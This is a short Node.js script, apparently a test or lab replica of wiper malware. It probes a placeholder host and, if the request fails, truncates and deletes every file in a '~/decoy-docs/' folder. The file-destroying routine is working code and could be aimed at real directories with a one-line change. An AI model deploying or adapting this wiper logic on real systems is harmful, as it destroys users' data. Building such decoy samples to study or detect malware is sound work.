// Replica of a wiper: only when nothing can be sent does it destroy. The documents are decoys.
const fs = require('fs'), http = require('http'), os = require('os')
const docs = os.homedir() + '/decoy-docs/'
const wipe = error => {
  console.log('refused', error.code)
  for (const name of fs.readdirSync(docs)) try { fs.truncateSync(docs + name); fs.unlinkSync(docs + name) } catch (e) {}
}
http.get('http://@SINK@:8080/alive', answer => answer.resume()).on('error', wipe)
